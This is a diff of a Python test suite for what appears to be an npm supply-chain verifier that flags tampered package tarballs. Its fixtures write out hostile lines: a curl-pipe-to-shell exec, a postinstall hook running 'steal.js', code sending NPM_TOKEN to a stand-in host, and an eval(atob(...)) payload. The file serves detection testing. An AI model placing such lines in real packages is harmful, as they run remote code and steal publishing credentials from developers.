@@ -11,10 +11,6 @@ from ossprov.model import FileStatus, Severity, Verdict
 from tests.conftest import npm_project
 
 
-def retar(tarball: Path, change: dict[str, bytes | None]) -> Path:
-    return World.tamper_npm(tarball, change)
-
-
 def highs(result) -> list:
     return [f for f in result.findings if f.severity is Severity.HIGH]
 
@@ -35,7 +31,7 @@ def test_genuine_plain_package_is_faithful(world: World) -> None:
 def test_line_injected_into_main_module(world: World) -> None:
     _, pkg, tarball = plain(world)
     evil = (pkg / "index.js").read_bytes() + b"require('child_process').exec('curl evil | sh');\n"
-    result = pipeline.verify(world.publish_npm(retar(tarball, {"index.js": evil})))
+    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": evil})))
     assert result.verdict is Verdict.MISMATCH
     assert any(f.path == "index.js" and f.rule == "OSP101" for f in highs(result))
     diff = next(r for r in result.file_results if r.path == "index.js").diff
@@ -45,7 +41,7 @@ def test_line_injected_into_main_module(world: World) -> None:
 def test_new_module_required_from_main(world: World) -> None:
     _, pkg, tarball = plain(world)
     main = b"require('./payload');\n" + (pkg / "index.js").read_bytes()
-    result = pipeline.verify(world.publish_npm(retar(tarball, {"index.js": main, "payload.js": b"steal();\n"})))
+    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"index.js": main, "payload.js": b"steal();\n"})))
     assert result.verdict is Verdict.MISMATCH
     paths = {f.path for f in highs(result)}
     assert {"index.js", "payload.js"} <= paths
@@ -56,7 +52,7 @@ def test_postinstall_added_to_package_json(world: World) -> None:
     _, pkg, tarball = plain(world)
     manifest = json.loads((pkg / "package.json").read_text())
     manifest["scripts"] = {"postinstall": "node steal.js"}
-    result = pipeline.verify(world.publish_npm(retar(tarball, {"package.json": json.dumps(manifest).encode()})))
+    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": json.dumps(manifest).encode()})))
     assert result.verdict is Verdict.MISMATCH
     assert any(f.rule == "OSP111" and "postinstall" in f.message for f in highs(result))
 
@@ -65,7 +61,7 @@ def test_dependency_added_like_event_stream(world: World) -> None:
     _, pkg, tarball = plain(world)
     manifest = json.loads((pkg / "package.json").read_text())
     manifest["dependencies"] = {"flatmap-stream": "^0.1.0"}
-    result = pipeline.verify(world.publish_npm(retar(tarball, {"package.json": json.dumps(manifest).encode()})))
+    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": json.dumps(manifest).encode()})))
     assert any(f.rule == "OSP113" and "flatmap-stream" in f.message for f in highs(result))
 
 
@@ -74,7 +70,7 @@ def test_publish_time_package_json_rewrites_are_normalized(world: World) -> None
     manifest = json.loads((pkg / "package.json").read_text())
     manifest.update({"gitHead": "abc", "_id": "plain@1.0.0", "readmeFilename": "README.md"})
     text = json.dumps(manifest, indent=4).encode()
-    result = pipeline.verify(world.publish_npm(retar(tarball, {"package.json": text})))
+    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"package.json": text})))
     assert result.verdict is Verdict.FAITHFUL
     assert next(r for r in result.file_results if r.path == "package.json").status is FileStatus.NORMALIZED
 
@@ -82,7 +78,7 @@ def test_publish_time_package_json_rewrites_are_normalized(world: World) -> None
 def test_crlf_line_endings_are_normalized(world: World) -> None:
     _, pkg, tarball = plain(world)
     crlf = (pkg / "lib/helper.js").read_bytes().replace(b"\n", b"\r\n")
-    result = pipeline.verify(world.publish_npm(retar(tarball, {"lib/helper.js": crlf})))
+    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"lib/helper.js": crlf})))
     helper = next(r for r in result.file_results if r.path == "lib/helper.js")
     assert helper.status is FileStatus.NORMALIZED and "line endings" in helper.reason
 
@@ -119,7 +115,7 @@ def test_minified_bundle_with_injected_code_despite_source_map(world: World) -> 
     pkg, tarball = built(world)
     bundle = (pkg / "dist/index.js").read_bytes().replace(
         b'"use strict";', b'"use strict";require("https").get("https://x.example/"+process.env.NPM_TOKEN);')
-    result = pipeline.verify(world.publish_npm(retar(tarball, {"dist/index.js": bundle})))
+    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"dist/index.js": bundle})))
     assert result.verdict is Verdict.MISMATCH
     assert any(f.rule == "OSP121" and f.path == "dist/index.js" for f in highs(result))
 
@@ -128,13 +124,13 @@ def test_source_map_embedding_different_source(world: World) -> None:
     pkg, tarball = built(world)
     doc = json.loads((pkg / "dist/index.js.map").read_text())
     doc["sourcesContent"] = ["export const greet = () => eval(atob('...'));\n"]
-    result = pipeline.verify(world.publish_npm(retar(tarball, {"dist/index.js.map": json.dumps(doc).encode()})))
+    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"dist/index.js.map": json.dumps(doc).encode()})))
     assert any(f.rule == "OSP122" for f in highs(result))
 
 
 def test_missing_file_from_files_list(world: World) -> None:
     _, tarball = built(world)
-    result = pipeline.verify(world.publish_npm(retar(tarball, {"src/index.ts": None})))
+    result = pipeline.verify(world.publish_npm(World.tamper_npm(tarball, {"src/index.ts": None})))
     missing = [r for r in result.file_results if r.status is FileStatus.MISSING]
     assert [r.path for r in missing] == ["src/index.ts"]
 
